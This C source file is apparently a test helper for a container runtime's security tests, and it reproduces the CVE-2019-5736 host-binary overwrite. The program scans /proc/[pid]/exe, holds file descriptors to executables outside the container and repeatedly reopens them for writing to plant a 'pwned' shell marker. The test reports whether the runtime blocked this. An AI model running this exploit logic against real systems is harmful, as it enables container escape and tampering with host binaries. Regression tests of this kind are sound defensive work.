/* The CVE-2019-5736 attacker of t_security's exe tests, run inside a
 * container that holds CAP_SYS_PTRACE.  It scans /proc/[pid]/exe of every
 * process it can see, keeps a read-only fd of each executable that is not
 * one of its own (busybox, itself), and keeps trying to reopen each one
 * through /proc/self/fd/N for writing (that fails with ETXTBSY while a
 * process still runs the file, and works once none does).  A successful
 * reopen writes a marker into the file.
 *
 * exe_grabber SECONDS STOPFILE: runs until SECONDS pass or STOPFILE exists,
 * then prints "held N: path..." for every file it held and
 * "WROTE path" for every file it wrote; exit 0 when nothing was written.
 * Built static by the test (the rootfs is busybox-static). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

struct held {
  int fd;
  dev_t dev;
  ino_t ino;
  char name[256];
  int wrote;
};

static struct held held[MAX_HELD];
static int n_held;
static struct stat own[2];

static int known(const struct stat *st) {
  for (int i = 0; i < 2; i++)
    if (own[i].st_dev == st->st_dev && own[i].st_ino == st->st_ino) return 1;
  for (int i = 0; i < n_held; i++)
    if (held[i].dev == st->st_dev && held[i].ino == st->st_ino) return 1;
  return 0;
}

static void grab(const char *pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  struct stat st;
  if (fstat(fd, &st) < 0 || known(&st) || n_held == MAX_HELD) {
    close(fd);
    return;
  }
  struct held *h = &held[n_held++];
  h->fd = fd;
  h->dev = st.st_dev;
  h->ino = st.st_ino;
  ssize_t n = readlink(path, h->name, sizeof h->name - 1);
  h->name[n > 0 ? n : 0] = 0;
}

static void scan(void) {
  DIR *d = opendir("/proc");
  if (!d) return;
  struct dirent *e;
  char self[16];
  snprintf(self, sizeof self, "%d", (int)getpid());
  while ((e = readdir(d)))
    if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self)) grab(e->d_name);
  closedir(d);
}

static void try_write(struct held *h) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
  int w = open(path, O_WRONLY | O_CLOEXEC);
  if (w < 0) return;
  if (pwrite(w, "#!/bin/sh\necho pwned\n", 21, 0) > 0) h->wrote = 1;
  close(w);
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  stat("/bin/busybox", &own[0]);
  stat("/proc/self/exe", &own[1]);
  time_t end = time(NULL) + atoi(argv[1]);
  while (time(NULL) < end && access(argv[2], F_OK) != 0) {
    scan();
    for (int i = 0; i < n_held; i++)
      if (!held[i].wrote) try_write(&held[i]);
  }
  int bad = 0;
  for (int i = 0; i < n_held; i++) {
    printf("held %d: %s\n", i, held[i].name);
    if (held[i].wrote) printf("WROTE %s\n", held[i].name), bad = 1;
  }
  fflush(stdout);
  return bad;
}
